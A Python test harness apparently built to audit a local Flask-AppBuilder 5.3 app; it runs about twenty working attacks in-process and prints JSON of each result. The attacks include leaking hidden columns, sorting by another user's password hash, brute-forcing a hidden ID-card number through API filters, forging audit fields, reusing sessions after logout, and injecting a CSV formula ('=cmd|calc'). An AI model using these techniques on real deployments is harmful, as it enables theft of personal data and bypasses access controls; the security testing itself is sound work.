"""A small stock Flask-AppBuilder 5.3 application attacked in a process of its own: what each leak gave, as JSON.

Two stores, a clerk of the first who lists names alone, rows limited by `base_filters`, FAB's defaults for the rest.
"""

import json
import logging
import os
import sys
import tempfile
import warnings
from collections.abc import Callable
from pathlib import Path
from typing import Any, ClassVar

warnings.simplefilter("ignore")
logging.disable(logging.CRITICAL)

from flask import Flask, g  # noqa: E402
from flask_admin import Admin, AdminIndexView  # noqa: E402
from flask_admin.contrib.sqla import ModelView as AdminView  # noqa: E402
from flask_appbuilder import AppBuilder, Model, ModelView, action  # noqa: E402
from flask_appbuilder.api import ModelRestApi  # noqa: E402
from flask_appbuilder.models.mixins import AuditMixin  # noqa: E402
from flask_appbuilder.models.sqla.filters import FilterEqualFunction  # noqa: E402
from flask_appbuilder.models.sqla.interface import SQLAInterface  # noqa: E402
from flask_appbuilder.utils.legacy import get_sqla_class  # noqa: E402
from marshmallow import Schema, fields  # noqa: E402
from sqlalchemy import Column, ForeignKey, Integer, String  # noqa: E402
from sqlalchemy.orm import relationship  # noqa: E402

CARD = "11010519491231002X"
OTHER_CARD = "440524188001010014"
FOREIGN = "foreign-secret"
PASSWORD = "a long pass phrase"
db = get_sqla_class()()


class Customer(AuditMixin, Model):
    """A customer, whose ID card no column list names."""

    __tablename__ = "stock_customer"
    id = Column(Integer, primary_key=True)
    name = Column(String(60))
    number = Column(String(20), unique=True)
    id_card = Column(String(18))
    cost = Column(Integer)
    store = Column(Integer)

    def __repr__(self) -> str:
        return str(self.name)


class Car(Model):
    """A car of a customer."""

    __tablename__ = "stock_car"
    id = Column(Integer, primary_key=True)
    plate = Column(String(20), nullable=False)
    customer_id = Column(Integer, ForeignKey("stock_customer.id"))
    customer = relationship(Customer)

    def __repr__(self) -> str:
        return str(self.plate)


OWN_STORE: list[list[object]] = [["store", FilterEqualFunction, lambda: 1]]


class CustomerView(ModelView):
    """The screens of one store's customers."""

    datamodel = SQLAInterface(Customer, db.session)
    list_columns: ClassVar[list[str]] = ["name"]
    order_columns: ClassVar[list[str]] = ["name"]
    base_filters = OWN_STORE

    @action("erase", "Erase", "Sure?", "fa-trash")
    def erase(self, items: list[Customer]) -> str:
        """Deletes the ticked rows."""
        self.datamodel.delete_all(items)
        return "erased"


class PlainView(ModelView):
    """The same without any list of columns."""

    datamodel = SQLAInterface(Customer, db.session)
    base_filters = OWN_STORE


class CarView(ModelView):
    """The screens of cars."""

    datamodel = SQLAInterface(Car, db.session)
    list_columns: ClassVar[list[str]] = ["plate"]


class CustomerApi(ModelRestApi):
    """The API of one store's customers."""

    datamodel = SQLAInterface(Customer, db.session)
    resource_name = "customer"
    list_columns: ClassVar[list[str]] = ["name"]
    base_filters = OWN_STORE
    allow_browser_login = True


class Masked(Schema):
    """A customer with a mask in the place of his ID card."""

    name = fields.String()
    id_card = fields.Function(lambda one: f"{one.id_card[:1]}****")


class MaskedApi(ModelRestApi):
    """The API with a prepared schema that masks."""

    datamodel = SQLAInterface(Customer, db.session)
    resource_name = "masked"
    list_columns: ClassVar[list[str]] = ["name", "id_card"]
    list_model_schema = Masked()
    base_filters = OWN_STORE
    allow_browser_login = True


class CarApi(ModelRestApi):
    """The API of cars."""

    datamodel = SQLAInterface(Car, db.session)
    resource_name = "car"
    allow_browser_login = True


class Rows(AdminView):
    """Cars in Flask-Admin as it comes."""

    can_export = True
    column_list: ClassVar[list[str]] = ["plate"]
    form_columns: ClassVar[list[str]] = ["plate"]


def build(home: Path) -> Flask:
    """The application with FAB's defaults, its rows and a clerk with every permission on these views."""
    app = Flask(__name__)
    app.config.update(
        SQLALCHEMY_DATABASE_URI=f"sqlite:///{home / 'stock.db'}",
        SECRET_KEY="stock",
        WTF_CSRF_ENABLED=False,
        FAB_API_KEY_ENABLED=True,
        FAB_ADD_SECURITY_API=True,
        AUTH_RATE_LIMITED=True,
        RATELIMIT_ENABLED=True,
        UPLOAD_FOLDER=f"{home}/",
    )
    db.init_app(app)
    with app.app_context():
        builder = AppBuilder(app, db.session)
        Model.metadata.create_all(db.engine)
        for view in (CustomerView, PlainView, CarView):
            builder.add_view(view, view.__name__)
        for api in (CustomerApi, MaskedApi, CarApi):
            builder.add_api(api)
        fill(builder.sm)
        console = Admin(app, url="/console", index_view=AdminIndexView(url="/console", endpoint="console"))
        console.add_view(Rows(Car, db.session, endpoint="rows"))
    return app


def fill(sm: Any) -> None:
    """A clerk, and customers and cars of both stores."""
    clerk = sm.add_role("Clerk")
    for permission in sm.find_role("Admin").permissions:
        clerk.permissions.append(permission)
    user = sm.add_user("clerk", "c", "l", "c@example.com", clerk, PASSWORD)
    other = sm.add_user("other", FOREIGN, "x", "o@example.com", clerk, "another pass phrase")
    g.user = user
    rows = [("甲", "N1", CARD, 30, 1), ("乙", "N2", OTHER_CARD, 10, 1), ("丙", "N3", OTHER_CARD, 20, 1)]
    for name, number, card, cost, store in [*rows, (FOREIGN, "N9", CARD, 5, 2)]:
        row = Customer(name=name, number=number, id_card=card, cost=cost, store=store)
        row.created_by_fk, row.changed_by_fk = (user.id if name == "甲" else other.id), user.id
        db.session.add(row)
    db.session.commit()
    db.session.add(Car(plate="粤A1", customer_id=1))
    db.session.commit()


class Attack:
    """The clerk's browser and what it gets."""

    def __init__(self, app: Flask) -> None:
        self.app = app
        self.browser = self.signed_in()

    def signed_in(self) -> Any:
        browser = self.app.test_client()
        browser.post("/login/", data={"username": "clerk", "password": PASSWORD})
        return browser

    def names(self, path: str) -> list[str]:
        """The names of a page, in its order."""
        text = self.browser.get(path).text
        return sorted((one for one in "甲乙丙" if f">{one}<" in text.replace(" ", "").replace("\n", "")),
                      key=text.rindex)  # fmt: skip

    def counted(self, prefix: str) -> int:
        """How many customers' hidden ID cards begin so, as the API's filter tells."""
        q = f"(filters:!((col:id_card,opr:sw,value:'{prefix}'),(col:name,opr:eq,value:甲)))"
        answer = self.browser.get("/api/v1/customer/", query_string={"q": q}).json
        return int(answer.get("count", 0))


def order_by_hidden(attack: Attack) -> object:  # L1
    return attack.names("/customerview/list/?_oc_CustomerView=cost&_od_CustomerView=asc") == ["乙", "丙", "甲"]


def order_by_password(attack: Attack) -> object:  # L2
    path = "/customerview/list/?_oc_CustomerView=created_by.password&_od_CustomerView="
    return attack.names(f"{path}asc") != attack.names(f"{path}desc")


def digits(attack: Attack) -> object:  # L3, trap 8
    known, asked = "", 0
    while len(known) < 18:
        for digit in "0123456789X":
            asked += 1
            if attack.counted(known + digit):
                known += digit
                break
        else:
            return None
    return {"read": known, "requests": asked}


def other_rows_in_the_form(attack: Attack) -> object:  # L4
    return FOREIGN in attack.browser.get("/carview/list/").text


def page_size(attack: Attack) -> object:  # L5
    paths = ("psize_CustomerView=5000", "psize_CustomerView=-1", "page_CustomerView=abc", "_oc_CustomerView=nothing")
    return [attack.browser.get(f"/customerview/list/?{path}").status_code for path in paths]


def every_column(attack: Attack) -> object:  # L6
    return (
        CARD in attack.browser.get("/plainview/show/1").text and CARD in attack.browser.get("/api/v1/customer/1").text
    )


def related_of_any(attack: Attack) -> object:  # L8
    answer = attack.browser.post("/api/v1/car/", json={"plate": "粤A2", "customer": 4})
    return answer.status_code == 201 and FOREIGN in attack.browser.get(f"/api/v1/car/{answer.json['id']}").text


def phantom(attack: Attack) -> object:  # L8b
    count = "SELECT count(*) FROM stock_customer"
    with attack.app.app_context():
        before = db.session.execute(db.text(count)).scalar()
    answer = attack.browser.post("/api/v1/car/", json={"plate": "粤A3", "customer": 4242})
    with attack.app.app_context():
        return [answer.status_code, db.session.execute(db.text(count)).scalar() - before]


def info(attack: Attack) -> object:  # L9
    told = [attack.browser.get(f"/api/v1/{one}/_info").text for one in ("car", "customer")]
    return FOREIGN in told[0] and "id_card" in told[1]


def columns(attack: Attack) -> object:  # L10
    masked, asked = (attack.browser.get(f"/api/v1/masked/{q}").text for q in ("", "?q=(columns:!(id_card))"))
    return CARD not in masked and CARD in asked


def forged(attack: Attack) -> object:  # L11
    given = {"name": "丁", "store": 1, "created_by": 2, "changed_by": 2, "created_on": "2001-01-01T00:00:00"}
    answer = attack.browser.post("/api/v1/customer/", json=given)
    with attack.app.app_context():
        rows = db.session.execute(db.text("SELECT created_by_fk, created_on FROM stock_customer WHERE name = '丁'"))
        return [answer.status_code, [[who, str(when)[:10]] for who, when in rows]]


def exists(attack: Attack) -> object:  # L12
    given = {"name": "戊", "store": 1, "created_by": 1, "changed_by": 1}
    taken, free = (attack.browser.post("/api/v1/customer/", json=given | {"number": n}) for n in ("N9", "N77"))
    return [taken.status_code, free.status_code]


def download(attack: Attack) -> object:  # L13
    (Path(attack.app.config["UPLOAD_FOLDER"]) / "theirs_sep_secret.txt").write_text(FOREIGN)
    return FOREIGN in attack.browser.get("/carview/download/theirs_sep_secret.txt").text


def told_sql(attack: Attack) -> object:  # L14
    answer = attack.browser.put("/api/v1/customer/2", json={"number": "N1"})
    return [answer.status_code, "UPDATE stock_customer" in answer.text, "N1" in answer.text]


def api_key(attack: Attack) -> object:  # trap 9
    with attack.app.app_context():
        sm = attack.app.extensions["appbuilder"].sm
        key = sm.create_api_key(sm.find_user("clerk"), "narrow", scopes="nothing:none")["key"]
    answer = attack.app.test_client().get("/api/v1/customer/", headers={"Authorization": f"Bearer {key}"})
    return [answer.status_code, len((answer.json or {}).get("result", []))]


def after_signing_out(attack: Attack) -> object:  # trap 10
    browser = attack.signed_in()
    cookie = browser.get_cookie("session")
    browser.get("/logout/")
    thief = attack.app.test_client()
    thief.set_cookie("session", cookie.value)
    return thief.get("/customerview/list/").status_code


def guessing(attack: Attack) -> object:  # trap 11
    door = attack.app.test_client()
    given = {"username": "clerk", "provider": "db", "refresh": True}
    wrong = [door.post("/api/v1/security/login", json=given | {"password": f"no {n}"}).status_code for n in range(12)]
    right = door.post("/api/v1/security/login", json=given | {"password": PASSWORD}).status_code
    return [sorted(set(wrong)), right]


def strange(attack: Attack) -> object:  # trap 13
    return attack.browser.get("/api/v1/customer/?q=-3.2e+16").status_code


def erase_foreign(attack: Attack) -> object:  # L7, last: it removes the row the others speak of
    attack.browser.post("/customerview/action_post", data={"action": "erase", "rowid": ["4"]})
    with attack.app.app_context():
        return db.session.execute(db.text("SELECT count(*) FROM stock_customer WHERE store = 2")).scalar() == 0


def console(attack: Attack) -> object:  # trap 14
    nobody = attack.app.test_client()
    listed = nobody.get("/console/rows/").status_code
    made = nobody.post("/console/rows/new/", data={"plate": "=cmd|calc"}).status_code
    return [listed, made, "\n=cmd" in nobody.get("/console/rows/export/csv/").text]


ATTACKS: dict[str, Callable[[Attack], object]] = {
    one.__name__: one
    for one in (
        order_by_hidden, order_by_password, digits, other_rows_in_the_form, page_size, every_column, related_of_any,
        phantom, info, columns, forged, exists, download, told_sql, api_key, after_signing_out, guessing, strange,
        console, erase_foreign,
    )
}  # fmt: skip


def main() -> None:
    """Every attack's gain, by its name."""
    with tempfile.TemporaryDirectory() as home:
        attack = Attack(build(Path(home)))
        gained = {}
        for name, one in ATTACKS.items():
            try:
                gained[name] = one(attack)
            except Exception as error:  # noqa: BLE001  # told, so that the test that reads it fails with a reason
                gained[name] = f"{type(error).__name__}: {error}"
        sys.stdout.write(json.dumps(gained, ensure_ascii=False))
        sys.stdout.flush()
        os._exit(0)


if __name__ == "__main__":
    main()
